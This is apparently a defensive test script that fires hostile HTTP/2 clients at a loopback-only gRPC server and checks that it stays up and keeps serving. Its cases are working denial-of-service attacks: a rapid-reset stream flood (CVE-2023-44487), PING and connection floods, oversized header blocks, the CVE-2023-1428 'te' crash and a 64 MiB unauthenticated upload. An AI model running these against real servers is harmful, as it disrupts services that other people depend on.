#!/usr/bin/env python3
"""Hostile HTTP/2 clients against a seedrl server, one bounded case per run (loopback only).

Each case speaks raw HTTP/2 through PyPI `h2` over a plain socket and breaks the protocol
or the gRPC conventions in one way; then a well-behaved grpcio client checks that the
server still answers (GetSpec, one Act exchange, GetStats). Prints one JSON line:

    case, server_alive, healthy_served (+ healthy_detail), healthy_during (cases that hold
    something open), rss_kib_before/peak/after/after_3s (VmRSS of --pid), attack_seconds,
    answer (what the server sent the attacker: frames by type, RST_STREAM and GOAWAY codes,
    grpc-status/grpc-message, DATA bytes)

    scripts/hostile-clients.py --target 127.0.0.1:PORT --case rapid-reset --pid PID

Exit status 0 when the server is alive (or --pid is not given) and served the healthy
client after the attack, 1 otherwise. Needs h2 and grpcio (scripts/test-hostile-clients.sh
makes the virtual environment).
"""
import argparse
import json
import random
import select
import socket
import struct
import sys
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from h2.errors import ErrorCodes
from h2.settings import SettingCodes

ACT = "/seedrl.v1.Learner/Act"
GET_SPEC = "/seedrl.v1.Learner/GetSpec"
GET_STATS = "/seedrl.v1.Learner/GetStats"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_TYPES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE",
               6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}


# --- protobuf and gRPC framing, by hand (the contract is tiny) -------------------------------

def cartpole_step():
    """A valid CartPole Step: step_type FIRST (field 1), observation 4 float32 (field 4)."""
    observation = struct.pack("<4f", 0.01, -0.02, 0.03, -0.04)
    return b"\x08\x01" + b"\x22" + bytes([len(observation)]) + observation


def grpc_message(payload, announced=None):
    """gRPC length-prefixed message: flag 0, 4-byte big-endian length, bytes."""
    return b"\x00" + struct.pack(">I", len(payload) if announced is None else announced) + payload


def read_varint(data, offset):
    value, shift = 0, 0
    while True:
        byte = data[offset]
        offset += 1
        value |= (byte & 0x7F) << shift
        shift += 7
        if byte < 0x80:
            return value, offset


def decode_fields(data):
    """Top-level protobuf fields: {number: value} (varints as ints, the rest as bytes)."""
    fields, offset = {}, 0
    while offset < len(data):
        key, offset = read_varint(data, offset)
        number, wire = key >> 3, key & 7
        if wire == 0:
            fields[number], offset = read_varint(data, offset)
        elif wire == 1:
            fields[number], offset = data[offset:offset + 8], offset + 8
        elif wire == 5:
            fields[number], offset = data[offset:offset + 4], offset + 4
        elif wire == 2:
            length, offset = read_varint(data, offset)
            fields[number], offset = data[offset:offset + length], offset + length
        else:
            raise ValueError(f"wire type {wire}")
    return fields


def request_headers(target, path=ACT, te="trailers", extra=()):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", target),
            ("te", te), ("content-type", "application/grpc")] + list(extra)


# --- the server process ------------------------------------------------------------------------

def proc_status(pid, key):
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith(key + ":"):
                    return line.split()[1]
    except (FileNotFoundError, ProcessLookupError):
        return None
    return None


def rss_kib(pid):
    value = proc_status(pid, "VmRSS") if pid else None
    return int(value) if value is not None else None


def server_alive(pid):
    """The pid exists and is not a zombie (a crashed child of the test script is one)."""
    state = proc_status(pid, "State")
    return state is not None and state not in ("Z", "X")


class PeakSampler:
    """Samples VmRSS every 20 ms in a thread; `peak` is the largest seen."""

    def __init__(self, pid):
        self.pid, self.peak, self.running = pid, rss_kib(pid), pid is not None
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self):
        while self.running:
            value = rss_kib(self.pid)
            if value is not None and (self.peak is None or value > self.peak):
                self.peak = value
            time.sleep(0.02)

    def __enter__(self):
        if self.running:
            self.thread.start()
        return self

    def __exit__(self, *exc):
        self.running = False


# --- the attacker's side: one HTTP/2 connection over a raw socket --------------------------------

class Answer:
    """What the server sent back, summed over the attacker's connections."""

    def __init__(self):
        self.frames, self.rst_codes, self.goaways, self.statuses, self.messages = {}, {}, [], {}, []
        self.data_bytes, self.closed, self.responses, self.server_settings = 0, 0, 0, None
        self.violations, self.errors, self.examples = {}, [], []

    def count_frame(self, name, payload):
        self.frames[name] = self.frames.get(name, 0) + 1
        if name == "RST_STREAM" and len(payload) >= 4:
            code = error_name(struct.unpack(">I", payload[:4])[0])
            self.rst_codes[code] = self.rst_codes.get(code, 0) + 1
        if name == "GOAWAY" and len(payload) >= 8 and len(self.goaways) < 5:
            last, code = struct.unpack(">II", payload[:8])
            self.goaways.append({"code": error_name(code), "last_stream": last & 0x7FFFFFFF,
                                 "debug": payload[8:200].decode("utf-8", "replace")})
        if name == "SETTINGS" and payload and self.server_settings is None:
            self.server_settings = {setting_name(code): value for code, value in
                                    (struct.unpack(">HI", payload[i:i + 6]) for i in range(0, len(payload), 6))}

    def count_headers(self, headers):
        values = dict(headers)
        self.responses += ":status" in values
        if "grpc-status" in values:
            status = values["grpc-status"]
            self.statuses[status] = self.statuses.get(status, 0) + 1
            message = values.get("grpc-message", "")
            if message and message not in self.messages and len(self.messages) < 5:
                self.messages.append(message)
        return values.get("grpc-status"), values.get("grpc-message")

    def note(self, violation, example=None):
        """A frame the server should not have sent (HTTP/2 or gRPC)."""
        self.violations[violation] = self.violations.get(violation, 0) + 1
        if example is not None and len(self.examples) < 3:
            self.examples.append(example)

    def error(self, text):
        if text not in self.errors and len(self.errors) < 5:
            self.errors.append(text)

    def as_dict(self):
        result = {"frames": self.frames, "grpc_status": self.statuses, "grpc_message": self.messages,
                  "data_bytes": self.data_bytes, "rst_stream": self.rst_codes, "goaway": self.goaways,
                  "closed_by_server": self.closed, "responses": self.responses,
                  "server_violations": self.violations, "violation_examples": self.examples,
                  "client_errors": self.errors, "server_settings": self.server_settings}
        return {key: value for key, value in result.items() if value not in ({}, [], 0, None)}


class FrameReader:
    """Parses the server's bytes into frames itself (h2's state machine gives up at the server's
    first protocol error, e.g. a second HEADERS after END_STREAM) and reports them to an Answer."""

    def __init__(self, answer):
        self.answer, self.buffer, self.decoder = answer, b"", hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.block, self.block_stream = b"", 0
        self.ended, self.answers, self.data = set(), {}, {}  # per stream: END_STREAM seen, statuses, DATA
        self.kinds = set()  # frame types seen on this connection

    def feed(self, chunk):
        self.buffer += chunk
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            self.frame(FRAME_TYPES.get(kind, f"type-{kind}"), flags, stream, payload)

    def frame(self, name, flags, stream, payload):
        self.answer.count_frame(name, payload)
        self.kinds.add(name)
        if name in ("DATA", "HEADERS") and flags & 0x8:  # PADDED
            payload = payload[1:len(payload) - payload[0]]
        if name == "HEADERS" and flags & 0x20:  # PRIORITY
            payload = payload[5:]
        if name in ("DATA", "HEADERS") and stream in self.ended:
            self.answer.note(f"{name} after END_STREAM")
        if name == "DATA":
            self.answer.data_bytes += len(payload)
            self.data[stream] = self.data.get(stream, b"") + payload[:65536]
        elif name == "HEADERS":
            self.block, self.block_stream = payload, stream
        elif name == "CONTINUATION":
            self.block += payload
        if name in ("HEADERS", "CONTINUATION") and flags & 0x4:  # END_HEADERS
            self.header_block()
        if name in ("DATA", "HEADERS") and flags & 0x1:  # END_STREAM
            self.ended.add(stream)

    def header_block(self):
        try:
            headers = self.decoder.decode(self.block, raw=False)
        except Exception as error:  # an HPACK error of the server's, or ours: report, keep counting
            self.answer.error(f"hpack: {error!r}")
            return
        status = self.answer.count_headers(headers)
        if status[0] is not None:
            answers = self.answers.setdefault(self.block_stream, [])
            answers.append(list(status))
            if len(answers) == 2:
                self.answer.note("two grpc-status for one stream",
                                 {"stream": self.block_stream, "statuses": answers})


def setting_name(code):
    return SettingCodes(code).name if code in SettingCodes._value2member_map_ else str(code)


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class Connection:
    """A raw socket plus an h2 client state machine. Everything written goes through one outbox
    (the case's frames and h2's own ACKs, in order); every byte read is also parsed by a FrameReader."""

    def __init__(self, target, answer, initial_window=None, open_windows=True, handshake=True, settled=False):
        host, port = target.rsplit(":", 1)
        self.answer, self.open_windows = answer, open_windows
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setblocking(False)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                           validate_outbound_headers=False, normalize_outbound_headers=False,
                                           validate_inbound_headers=False)
        self.h2 = h2.connection.H2Connection(config=config)
        if initial_window is not None:
            self.h2.local_settings = h2.settings.Settings(
                client=True, initial_values={SettingCodes.INITIAL_WINDOW_SIZE: initial_window,
                                             SettingCodes.ENABLE_PUSH: 0})
        self.reader, self.outbox, self.eof, self.events = FrameReader(answer), bytearray(), False, []
        if handshake:
            self.h2.initiate_connection()
            self.pump(deadline=time.monotonic() + 5)
        if settled:  # wait for the server's SETTINGS and ACK them, so its limits are in force
            self.read_for(3, until=lambda: "SETTINGS" in self.reader.kinds)

    def pump(self, deadline, read=True, raw=b""):
        """Writes `raw` and what h2 queued until all is out or `deadline`, reading meanwhile
        unless read=False; returns the bytes written."""
        self.outbox += raw + self.h2.data_to_send()
        written = 0
        while self.outbox and time.monotonic() < deadline and not self.eof:
            readable, writable, _ = select.select([self.sock] if read else [], [self.sock], [], 0.1)
            if readable:
                self.receive()
            if writable:
                written += self.send_some()
        return written

    def send_some(self):
        """One non-blocking write from the outbox."""
        try:
            sent = self.sock.send(self.outbox[:1 << 20])
        except (BlockingIOError, InterruptedError):
            return 0
        except OSError as error:
            self.note_closed(error)
            return 0
        del self.outbox[:sent]
        return sent

    def receive(self):
        """One read: parsed by the FrameReader, fed to h2 (whose replies join the outbox)."""
        try:
            chunk = self.sock.recv(1 << 20)
        except (BlockingIOError, InterruptedError):
            return
        except OSError as error:
            self.note_closed(error)
            return
        if not chunk:
            self.note_closed(None)
            return
        self.reader.feed(chunk)
        if self.h2.state_machine.state == h2.connection.ConnectionState.CLOSED:
            return  # h2 gave up on the server (reported once below); the reader keeps counting
        try:
            for event in self.h2.receive_data(chunk):
                self.handle(event)
        except h2.exceptions.ProtocolError as error:
            self.answer.error(f"our h2 refused the server's frames (and sent GOAWAY): {error!r}")
        self.outbox += self.h2.data_to_send()

    def handle(self, event):
        """h2's events drive only our side: stream resets seen, window updates for DATA."""
        if len(self.events) < 1000:
            self.events.append(event)
        if isinstance(event, h2.events.DataReceived) and self.open_windows and event.flow_controlled_length:
            self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def note_closed(self, error):
        if not self.eof:
            self.eof = True
            self.answer.closed += 1
            if error is not None:
                self.answer.error(f"socket: {error}")

    def read_for(self, seconds, until=None):
        """Reads (and writes h2's ACKs) for up to `seconds`, or until `until()` is true."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.eof and not (until and until()):
            readable, _, _ = select.select([self.sock], [], [], max(0.0, min(0.05, deadline - time.monotonic())))
            if readable:
                self.receive()
            if self.outbox:
                self.send_some()

    def drain(self):
        """Reads what the server has already sent, without waiting."""
        while not self.eof and select.select([self.sock], [], [], 0)[0]:
            self.receive()

    def stream_done(self, stream_id):
        """A predicate: the server ended or reset `stream_id`, or h2 gave up on the connection."""
        return lambda: stream_id in self.reader.ended or self.h2.state_machine.state == \
            h2.connection.ConnectionState.CLOSED or any(
                isinstance(e, h2.events.StreamReset) and e.stream_id == stream_id for e in self.events)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# --- the well-behaved client ------------------------------------------------------------------------

def healthy(target, token=None, timeout=5.0):
    """GetSpec (CartPole: [4] float32, 2 actions), one Act exchange, GetStats, over grpcio."""
    metadata = [("authorization", f"Bearer {token}")] if token else None
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.enable_retries", 0)]
    try:
        with grpc.insecure_channel(target, options=options) as channel:
            spec = decode_fields(channel.unary_unary(GET_SPEC)(b"", timeout=timeout, metadata=metadata))
            if spec.get(4) != 2:
                return False, f"GetSpec: unexpected spec {spec}"
            replies = list(channel.stream_stream(ACT)(iter([cartpole_step()]), timeout=timeout, metadata=metadata))
            if len(replies) != 1 or decode_fields(replies[0]).get(1, 0) not in (0, 1):
                return False, f"Act: expected one action in 0..1, got {replies}"
            stats = decode_fields(channel.unary_unary(GET_STATS)(b"", timeout=timeout, metadata=metadata))
            return True, f"spec ok, 1 action, steps_served={stats.get(1, 0)} active_streams={stats.get(2, 0)}"
    except grpc.RpcError as error:
        return False, f"{error.code().name}: {error.details()}"


# --- the cases ---------------------------------------------------------------------------------------
# Each takes (args, answer) and returns (connections to close after the "after" sample, extra fields).
# A case that holds something open may return extra["healthy_during"] itself.

def case_te_big_headers(args, answer):
    """`te: x` (anything but "trailers") followed by > 8 KB of other headers: 1.51's metadata
    size error path with an invalid `te` aborted the process (CVE-2023-1428)."""
    padding = [(f"x-pad-{i}", "p" * 1000) for i in range(10)]
    return single_request(args, answer, request_headers(args.target, te="x", extra=padding))


def case_header_64k(args, answer):
    """One 64 KB header value (HEADERS + CONTINUATION): the HPACK parser's buffering."""
    return single_request(args, answer, request_headers(args.target, extra=[("x-big", "b" * 65536)]))


def case_many_headers(args, answer):
    """5000 small headers in one header block (HEADERS + CONTINUATIONs): HPACK CPU and table churn."""
    count = args.count or 5000
    extra = [(f"x-h-{i}", f"v{i}") for i in range(count)]
    return single_request(args, answer, request_headers(args.target, extra=extra))


def single_request(args, answer, headers):
    """Sends one Act request with `headers` and a valid Step, half-closes, reads the answer: once
    after ACKing the server's SETTINGS (its header-list limit in force; reported as `answer`), once
    on a fresh connection straight after the preface, before any ACK (`answer_before_settings_ack`)."""
    early = Answer()
    conns = [Connection(args.target, answer, settled=True), Connection(args.target, early)]
    for conn in conns:
        stream = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(stream, headers)
        conn.h2.send_data(stream, grpc_message(cartpole_step()), end_stream=True)
        conn.pump(deadline=time.monotonic() + 10)
        conn.read_for(5, until=conn.stream_done(stream))
    header_bytes = sum(len(k) + len(v) for k, v in headers)
    return conns, {"sent": {"headers": len(headers), "header_bytes": header_bytes},
                   "answer_before_settings_ack": early.as_dict()}


def case_rapid_reset(args, answer):
    """20,000 Act streams on one connection, each HEADERS at once followed by RST_STREAM(CANCEL)
    (CVE-2023-44487): the server creates and tears down a call per stream. --rounds N repeats it
    on N connections one after the other, sampling VmRSS after each (growth or reuse?)."""
    count, conns, rounds = args.count or 20000, [], []
    for _ in range(args.rounds):
        conn = Connection(args.target, answer)
        sent, seconds = reset_streams(conn, args.target, count)
        conn.read_for(1)
        rounds.append({"streams_reset": sent, "seconds": round(seconds, 2), "rss_kib_connection_open": rss_kib(args.pid)})
        conns.append(conn)
    return conns, {"sent": rounds}


def reset_streams(conn, target, count, limit=20.0):
    """HEADERS + RST_STREAM(CANCEL) `count` times, written in batches of 500; returns (sent, seconds)."""
    headers, started, sent = request_headers(target), time.monotonic(), 0
    while sent < count and time.monotonic() < started + limit and not conn.eof:
        for _ in range(min(500, count - sent)):
            stream = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(stream, headers)
            conn.h2.reset_stream(stream, ErrorCodes.CANCEL)
            sent += 1
        conn.pump(started + limit)
    return sent, time.monotonic() - started


def case_ping_flood(args, answer):
    """50,000 PING frames, written without reading the ACKs: the server's induced-frame queue."""
    count = args.count or 50000
    conn = Connection(args.target, answer)
    for index in range(count):
        conn.h2.ping(struct.pack(">Q", index))
    written = conn.pump(deadline=time.monotonic() + 10, read=False)
    conn.read_for(5, until=lambda: answer.frames.get("PING", 0) >= count)
    return [conn], {"sent": {"pings": written // 17, "pings_queued": count}}


def case_zero_window(args, answer):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, one Act stream with one Step, never read, never open a
    window; held --seconds: the server cannot send the Action (does it block others?)."""
    streams = args.count or 1
    conn = Connection(args.target, answer, initial_window=0, open_windows=False)
    for _ in range(streams):
        stream = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(stream, request_headers(args.target))
        conn.h2.send_data(stream, grpc_message(cartpole_step()))
    conn.pump(deadline=time.monotonic() + 5, read=False)
    extra = hold(args, [conn])
    conn.read_for(0.5)  # now see what the server had queued for us (HEADERS only: DATA needs a window)
    extra["sent"] = {"streams": streams, "steps": streams}
    return [conn], extra


def case_idle_connections(args, answer):
    """300 connections: preface + SETTINGS, then silence for --seconds (fd and per-connection memory)."""
    count = args.count or 300
    conns = open_connections(args.target, answer, count)
    extra = hold(args, conns)
    for conn in conns:
        conn.drain()
    extra["sent"] = {"connections": len(conns)}
    extra["served_settings"] = sum("SETTINGS" in conn.reader.kinds for conn in conns)
    return conns, extra


def case_garbage_after_preface(args, answer):
    """The client preface, then random bytes instead of frames, on 20 connections (seeded)."""
    generator = random.Random(1)
    count = args.count or 20
    conns = []
    for _ in range(count):
        conn = Connection(args.target, answer, handshake=False)
        conn.h2.initiate_connection()
        conn.h2.data_to_send()  # h2's own SETTINGS is dropped: garbage follows the bare preface
        garbage = bytes(generator.getrandbits(8) for _ in range(16384))
        conn.pump(deadline=time.monotonic() + 2, raw=PREFACE + garbage)
        conn.read_for(1, until=lambda: conn.eof)
        conns.append(conn)
    return conns, {"sent": {"connections": count, "garbage_bytes_each": 16384}}


def case_truncated_message(args, answer):
    """An Act stream whose DATA announces a 100-byte message but carries 10, then END_STREAM."""
    conn = Connection(args.target, answer)
    stream = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(stream, request_headers(args.target))
    conn.h2.send_data(stream, grpc_message(cartpole_step()[:10], announced=100), end_stream=True)
    conn.pump(deadline=time.monotonic() + 5)
    conn.read_for(5, until=conn.stream_done(stream))
    data = conn.reader.data.get(stream, b"")
    actions = [decode_fields(data[5:])] if len(data) >= 5 else []
    ended = stream in conn.reader.ended
    return [conn], {"sent": {"announced": 100, "carried": 10}, "stream_ended": ended, "actions": actions[:3]}


def case_unauth_big_unary(args, answer):
    """GetSpec without authorization whose DATA is one 64 MiB message (server started with a token):
    is it refused before being buffered? The upload stops as soon as the server answers, so
    `completed: true` means the server took (and buffered) all of it before answering."""
    size = args.count or 64 << 20
    conn = Connection(args.target, answer)
    stream = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(stream, request_headers(args.target, path=GET_SPEC))
    conn.h2.send_data(stream, grpc_message(b"", announced=size))  # the 5-byte prefix; the bytes follow
    remaining, deadline = size, time.monotonic() + 20
    while remaining and time.monotonic() < deadline and not conn.eof and not conn.stream_done(stream)():
        window = min(conn.h2.local_flow_control_window(stream), conn.h2.max_outbound_frame_size, remaining)
        if window <= 0:
            conn.read_for(0.05)  # wait for the server's WINDOW_UPDATE
            continue
        conn.h2.send_data(stream, bytes(window), end_stream=window == remaining)
        remaining -= window
        conn.pump(deadline)
    conn.read_for(3, until=conn.stream_done(stream))
    return [conn], {"sent": {"announced": size, "bytes_sent": 5 + size - remaining, "completed": remaining == 0}}


def case_connection_flood(args, answer):
    """Open up to 400 connections (server under `prlimit --nofile=256`), count those the server
    answers with SETTINGS, close them all; the check afterwards is whether a NEW one is served."""
    count = args.count or 400
    conns = open_connections(args.target, answer, count)
    time.sleep(2)
    for conn in conns:
        conn.drain()
    served = sum("SETTINGS" in conn.reader.kinds for conn in conns)
    ok, detail = healthy(args.target, args.token, timeout=3)
    return conns, {"sent": {"connections": len(conns)}, "served_settings": served,
                   "healthy_during": {"ok": ok, "detail": detail}}


def open_connections(target, answer, count):
    conns = []
    for _ in range(count):
        try:
            conns.append(Connection(target, answer))
        except OSError as error:
            answer.error(f"connect #{len(conns) + 1}: {error}")
            break
    return conns


def hold(args, conns):
    """Keeps `conns` open (unread) for --seconds, checking a healthy client half-way."""
    seconds = args.seconds if args.seconds is not None else 10
    time.sleep(seconds / 2)
    ok, detail = healthy(args.target, args.token)
    time.sleep(seconds / 2)
    return {"held_seconds": seconds, "healthy_during": {"ok": ok, "detail": detail}}


CASES = {
    "te-big-headers": case_te_big_headers,
    "header-64k": case_header_64k,
    "many-headers": case_many_headers,
    "rapid-reset": case_rapid_reset,
    "ping-flood": case_ping_flood,
    "zero-window": case_zero_window,
    "idle-connections": case_idle_connections,
    "garbage-after-preface": case_garbage_after_preface,
    "truncated-message": case_truncated_message,
    "unauth-big-unary": case_unauth_big_unary,
    "connection-flood": case_connection_flood,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="HOST:PORT of the server (loopback only)")
    parser.add_argument("--case", required=True, choices=sorted(CASES))
    parser.add_argument("--pid", type=int, help="the server's pid: alive check and VmRSS")
    parser.add_argument("--token-file", help="the server's token, for the healthy client only")
    parser.add_argument("--count", type=int, help="override the case's count (streams, pings, connections, bytes)")
    parser.add_argument("--seconds", type=float, help="how long holding cases hold (default 10)")
    parser.add_argument("--rounds", type=int, default=1, help="rapid-reset: connections, one after the other")
    args = parser.parse_args()
    if not args.target.startswith(("127.", "localhost:", "[::1]:")):
        parser.error("loopback targets only")
    args.token = open(args.token_file).readline().strip() if args.token_file else None

    answer = Answer()
    before = rss_kib(args.pid)
    started = time.monotonic()
    with PeakSampler(args.pid) as sampler:
        conns, extra = CASES[args.case](args, answer)
        attack_seconds = time.monotonic() - started
        for conn in conns:
            conn.close()
        time.sleep(0.1)
    after = rss_kib(args.pid)
    time.sleep(3)
    after_3s = rss_kib(args.pid)
    ok, detail = healthy(args.target, args.token)
    alive = server_alive(args.pid) if args.pid else None
    result = {"case": args.case, "server_alive": alive, "healthy_served": ok, "healthy_detail": detail,
              "rss_kib_before": before, "rss_kib_peak": sampler.peak, "rss_kib_after": after,
              "rss_kib_after_3s": after_3s, "attack_seconds": round(attack_seconds, 2),
              "answer": answer.as_dict()}
    result.update(extra)
    print(json.dumps(result), flush=True)
    sys.exit(0 if ok and alive is not False else 1)


if __name__ == "__main__":
    main()
